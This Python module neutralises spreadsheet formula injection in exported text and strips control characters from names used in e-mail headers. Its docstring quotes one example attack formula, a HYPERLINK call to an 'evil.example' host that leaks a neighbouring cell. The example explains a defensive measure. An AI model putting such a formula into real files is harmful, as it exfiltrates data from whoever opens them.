"""Text that leaves the product in a file or a message: nothing a spreadsheet would execute, nothing that breaks a line.

The rule (OWASP, "CSV Injection"): a spreadsheet treats a cell that starts with `=`, `+`, `-` or
`@` as a formula (`=HYPERLINK("http://evil.example/?leak="&B5)` sends a neighbouring cell away
when the file is opened), and some also after a leading tab or carriage return. Every text cell
of every export that starts with one of those characters gets a leading apostrophe, which
spreadsheets show as text and never evaluate. One exception keeps numbers usable: a cell that is
a plain decimal number (`-1234.50`, `-12.5`: an optional minus, digits, an optional fraction) is
left as it is, so a CSV's negative amounts still parse; a spreadsheet reads it as the number it
is, which runs nothing. In workbooks, amounts are written as number cells and text as string
cells (never interpreted), and text gets the same apostrophe.

Names from documents (org, entities, accounts, alert titles) also lose their control characters
(a line feed in an org name would otherwise end an e-mail header).
"""

from __future__ import annotations

import re

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NEUTRALISING_PREFIX = "'"
_PLAIN_NUMBER = re.compile(r"^-?[0-9]+(\.[0-9]+)?$")
_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]")


def is_formula_like(text: str) -> bool:
    """True if a spreadsheet could execute `text` as a cell (it starts with a trigger and is not a plain number)."""
    return text.startswith(FORMULA_TRIGGERS) and _PLAIN_NUMBER.match(text) is None


def spreadsheet_safe(text: str) -> str:
    """`text` as a cell that no spreadsheet executes: a leading apostrophe when it is formula-like."""
    return NEUTRALISING_PREFIX + text if is_formula_like(text) else text


def display_name(value: object, limit: int = 200) -> str:
    """A name from a document as every export shows it: one line, at most `limit` characters, not formula-like."""
    text = _CONTROL.sub(" ", str(value))
    if len(text) > limit:
        text = text[: limit - 1] + "…"
    return spreadsheet_safe(text)


def one_line(value: object) -> str:
    """`value` without control characters (for e-mail headers and single-line texts)."""
    return _CONTROL.sub(" ", str(value))
